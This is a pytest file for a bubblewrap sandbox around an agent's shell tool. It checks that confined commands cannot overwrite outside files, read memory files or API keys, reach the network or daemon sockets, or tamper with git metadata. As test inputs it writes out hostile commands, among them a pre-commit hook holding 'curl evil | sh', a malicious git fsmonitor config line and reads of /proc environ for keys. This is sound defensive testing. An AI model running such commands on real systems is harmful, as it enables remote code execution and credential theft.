"""run_shell under bubblewrap (SPEC §12). The confinement tests skip, saying why, where bwrap cannot run."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from nanohermes.core.cancel import CancelToken
from nanohermes.core.errors import ToolError
from nanohermes.tools.base import CallContext
from nanohermes.tools.sandbox import NETWORK_RUNTIME, PROGRAM_RUNTIME, RUNTIME_DIR, Sandbox
from nanohermes.tools.shell import ShellTool


def detect(workspace: Path, home: Path, **options: object) -> Sandbox:
    hidden = [home / ".nanohermes"]
    return Sandbox.detect("auto", workspace=workspace, hidden=hidden, **options)  # type: ignore[arg-type]


def running(sandbox: Sandbox) -> Sandbox:
    """`sandbox`, or the test is skipped when bubblewrap cannot run here."""
    if not sandbox.active:
        print(f"skipping sandbox test: {sandbox.problem}")
        pytest.skip(f"bubblewrap cannot run here: {sandbox.problem}")
    return sandbox


@pytest.fixture
def sandboxed(workspace: Path, isolated_home: Path) -> Sandbox:
    return running(detect(workspace, isolated_home, network=False))


def shell(workspace: Path, sandbox: Sandbox, command: str, timeout: float | None = None) -> str:
    tool = ShellTool(workspace, timeout=30, sandbox=sandbox)
    return tool.run_shell(command, timeout, ctx=CallContext(CancelToken()))


@pytest.fixture
def outside_tmp(outside_tmp: Path) -> Path:
    """conftest's directory outside /tmp, holding a secret a sandboxed command must not read."""
    (outside_tmp / "secret.txt").write_text("TOP-SECRET\n")
    return outside_tmp


def test_a_write_outside_the_workspace_fails_and_says_the_sandbox_blocked_it(
    workspace: Path, outside_tmp: Path, outside: Path, sandboxed: Sandbox
) -> None:
    result = shell(workspace, sandboxed, f"echo pwned > {outside_tmp}/secret.txt")
    assert "Read-only file system" in result
    assert "sandbox:" in result
    assert "ask the user" in result
    assert (outside_tmp / "secret.txt").read_text() == "TOP-SECRET\n"
    swallowed = shell(workspace, sandboxed, f"echo pwned > {outside_tmp}/secret.txt; true")
    assert swallowed.startswith("exit code: 0")
    assert "sandbox:" in swallowed  # said even when the command's exit code hides the failure
    plain_text = shell(workspace, sandboxed, "echo 'the read-only file system talk'")
    assert "sandbox:" not in plain_text  # what a successful command prints is not a complaint
    hidden = shell(workspace, sandboxed, f"cat {outside}/secret.txt; echo pwned > {outside}/secret.txt")
    assert "TOP-SECRET" not in hidden  # other files under /tmp are not even visible
    assert (outside / "secret.txt").read_text() == "TOP-SECRET\n"


def test_the_workspace_and_a_private_tmp_are_writable(workspace: Path, sandboxed: Sandbox) -> None:
    marker = f"/tmp/nh-sandbox-{os.getpid()}"
    result = shell(
        workspace, sandboxed, f"echo made > made.txt && mkdir -p d && echo x > {marker} && cat {marker}"
    )
    assert result.startswith("exit code: 0"), result
    assert (workspace / "made.txt").read_text() == "made\n"
    assert not Path(marker).exists()  # that /tmp was the sandbox's own


def test_memory_sessions_and_keys_are_invisible(
    workspace: Path, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = isolated_home / ".nanohermes"
    (state / "sessions").mkdir(parents=True)
    (state / "memory.json").write_text('{"memories": "private"}')
    (state / "sessions" / "s.json").write_text("{}")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-visible-outside")
    sandbox = running(detect(workspace, isolated_home, network=False))
    result = shell(workspace, sandbox, f"cat {state}/memory.json; ls -A {state}; echo key=$OPENAI_API_KEY.")
    assert "private" not in result
    assert "No such file or directory" in result
    assert "sessions" not in result
    assert "key=." in result
    assert "sk-visible-outside" not in result
    plain = shell(workspace, Sandbox(), f"cat {state}/memory.json")
    assert "private" in plain  # the same command unconfined does see it


def test_no_process_in_the_sandbox_holds_the_keys(
    workspace: Path, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NANOHERMES_API_KEY", "sk-nanohermes-visible-outside")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-visible-outside")
    sandbox = running(detect(workspace, isolated_home, network=False))
    # PID 1 in the sandbox is bubblewrap itself: its environment must not hold the keys either
    result = shell(workspace, sandbox, "cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'; echo end")
    assert "NANOHERMES_SHELL_CALL=" in result  # the environments were read
    assert "visible-outside" not in result


@contextlib.contextmanager
def _listener() -> Iterator[int]:
    """A loopback port that accepts connections; on exit its accept thread is woken and joined before
    the socket closes (closed under a blocked accept, it would keep listening)."""
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with contextlib.suppress(OSError):  # shutdown ends the accept
            while True:
                server.accept()[0].close()

    accepting = threading.Thread(target=serve, daemon=True)
    accepting.start()
    with server:
        try:
            yield server.getsockname()[1]
        finally:
            server.shutdown(socket.SHUT_RDWR)
            accepting.join(timeout=5)


CONNECT = (
    "python3 -c \"import socket,sys; s=socket.create_connection(('127.0.0.1', {port}), timeout=3); "
    "print('connected')\""
)


def test_the_network_is_off_unless_allowed(workspace: Path, isolated_home: Path, sandboxed: Sandbox) -> None:
    with _listener() as port:
        blocked = shell(workspace, sandboxed, CONNECT.format(port=port))
        assert "connected" not in blocked
        assert not blocked.startswith("exit code: 0")
        allowed = detect(workspace, isolated_home, network=True)
        assert allowed.active
        assert "connected" in shell(workspace, allowed, CONNECT.format(port=port))
    assert sandboxed.status == "sandbox: bwrap, network off"


@pytest.fixture
def runtime_socket() -> Iterator[Path]:
    """A listening socket where daemons keep theirs (the session bus, agents, docker)."""
    if not os.access(RUNTIME_DIR, os.W_OK):
        pytest.skip(f"planting a socket needs a writable {RUNTIME_DIR}")
    folder = Path(tempfile.mkdtemp(dir=RUNTIME_DIR, prefix="nh-sandbox-"))
    server = socket.socket(socket.AF_UNIX)
    with server:
        server.bind(str(folder / "daemon.sock"))
        server.listen(1)
        yield folder / "daemon.sock"
    shutil.rmtree(folder)


UNIX_CONNECT = (
    "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('connected')\""
)


@pytest.mark.parametrize("network", [False, True])
def test_daemon_sockets_cannot_be_reached(
    workspace: Path, isolated_home: Path, runtime_socket: Path, network: bool
) -> None:
    sandbox = running(detect(workspace, isolated_home, network=network))
    assert "connected" in shell(workspace, Sandbox(), UNIX_CONNECT.format(path=runtime_socket))
    result = shell(workspace, sandbox, UNIX_CONNECT.format(path=runtime_socket))
    assert "connected" not in result  # through such a socket a command could act outside the sandbox
    assert not result.startswith("exit code: 0")


@pytest.mark.parametrize("network", [False, True], ids=["network-off", "network-on"])
def test_the_empty_run_keeps_where_programs_and_dns_live(
    workspace: Path, isolated_home: Path, network: bool
) -> None:
    sandbox = detect(workspace, isolated_home, network=network)
    if not sandbox.active or not RUNTIME_DIR.is_dir():
        pytest.skip("bubblewrap cannot run here, or the host has no /run")
    args = sandbox.argv("true") or []
    kept = {args[i + 1] for i, arg in enumerate(args) if arg == "--ro-bind-try"}
    assert set(PROGRAM_RUNTIME) <= kept  # NixOS: PATH leads to /run/current-system and /run/wrappers
    assert (set(NETWORK_RUNTIME) <= kept) is network
    assert args.index("--tmpfs", args.index("/tmp")) < args.index("--ro-bind-try")


def _running(marker: str) -> bool:
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    return True
            except OSError:
                continue
    return False


def test_a_timeout_still_kills_the_whole_process_group(workspace: Path, sandboxed: Sandbox) -> None:
    marker = f"98{os.getpid()}.5"
    start = time.monotonic()
    result = shell(workspace, sandboxed, f"sleep {marker} & sleep {marker}", timeout=1)
    assert result.startswith("timed out after 1 s")
    assert time.monotonic() - start < 10
    deadline = time.monotonic() + 5
    while _running(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _running(marker)


def test_cancel_kills_a_sandboxed_command(workspace: Path, sandboxed: Sandbox) -> None:
    token = CancelToken()
    threading.Timer(0.5, token.cancel).start()
    tool = ShellTool(workspace, timeout=30, sandbox=sandboxed)
    start = time.monotonic()
    with pytest.raises(Exception, match="interrupted"):
        tool.run_shell("sleep 30", ctx=CallContext(token))
    assert time.monotonic() - start < 10


def test_bwrap_mode_refuses_when_bubblewrap_is_missing_or_broken(workspace: Path, tmp_path: Path) -> None:
    missing = Sandbox.detect(
        "bwrap", network=False, workspace=workspace, executable=str(tmp_path / "no-bwrap")
    )
    assert not missing.active
    assert "not installed" in missing.startup_warning
    assert "refused" in missing.status
    with pytest.raises(ToolError, match="sandbox = bwrap"):
        shell(workspace, missing, "echo hi")
    broken = Sandbox.detect("auto", network=False, workspace=workspace, executable="false")
    assert not broken.active
    assert "cannot start" in broken.startup_warning
    assert shell(workspace, broken, "echo hi").startswith("exit code: 0")  # auto: runs plainly
    quiet = Sandbox.detect("auto", network=False, workspace=workspace, executable=str(tmp_path / "none"))
    assert quiet.startup_warning == ""  # auto without bubblewrap installed: no warning, the bar says it
    assert quiet.status == "sandbox: off (bubblewrap (bwrap) is not installed)"
    off = Sandbox.detect("off", network=False, workspace=workspace)
    assert off.status == "sandbox: off"
    assert off.argv("echo hi") is None


def test_the_memory_file_is_hidden_even_when_its_folder_holds_the_workspace(outside_tmp: Path) -> None:
    memory_dir = outside_tmp / "memdir"  # memory_dir = a parent of the workspace (not under /tmp)
    workspace = memory_dir / "project"
    workspace.mkdir(parents=True)
    (memory_dir / "memory.json").write_text('{"memories": "private"}')
    (memory_dir / "other.txt").write_text("visible\n")
    sandbox = running(
        Sandbox.detect(
            "auto", network=False, workspace=workspace, hidden=[memory_dir, memory_dir / "memory.json"]
        )
    )
    result = shell(workspace, sandbox, "cat ../memory.json; cat ../other.txt; echo w > here.txt")
    assert "private" not in result
    assert "visible" in result  # the folder itself stays: it holds the workspace
    assert (workspace / "here.txt").read_text() == "w\n"


@pytest.mark.parametrize("layout", ["directory", "link-inside"])
def test_the_repositorys_git_metadata_is_read_only(workspace: Path, sandboxed: Sandbox, layout: str) -> None:
    real = workspace / (".git" if layout == "directory" else "repo.git")
    (real / "hooks").mkdir(parents=True)
    (real / "config").write_text("[core]\n")
    if layout == "link-inside":
        (workspace / ".git").symlink_to(real)
    hook = shell(workspace, sandboxed, "echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert "Read-only file system" in hook
    assert "sandbox:" in hook
    assert not (real / "hooks" / "pre-commit").exists()
    config = shell(workspace, sandboxed, "echo '[core] fsmonitor = evil' >> .git/config")
    assert "Read-only file system" in config
    assert (real / "config").read_text() == "[core]\n"
    work = shell(workspace, sandboxed, "echo ok > tracked.txt && cat tracked.txt")
    assert work.startswith("exit code: 0"), work  # the rest of the workspace stays writable


def test_a_worktrees_git_file_is_read_only(workspace: Path, sandboxed: Sandbox, tmp_path: Path) -> None:
    pointer = f"gitdir: {tmp_path / 'main.git' / 'worktrees' / 'ws'}\n"
    (workspace / ".git").write_text(pointer)
    result = shell(workspace, sandboxed, "mkdir -p evil/hooks && echo 'gitdir: evil' > .git")
    assert "Read-only file system" in result  # else the user's next git command runs evil/hooks
    assert (workspace / ".git").read_text() == pointer
    assert (workspace / "evil" / "hooks").is_dir()  # the rest of the workspace stays writable


def test_a_git_link_loop_does_not_break_the_sandbox(workspace: Path, sandboxed: Sandbox) -> None:
    (workspace / ".git").symlink_to(workspace / ".git")
    result = shell(workspace, sandboxed, "echo ok > made.txt")
    assert result.startswith("exit code: 0"), result
    assert (workspace / "made.txt").read_text() == "ok\n"
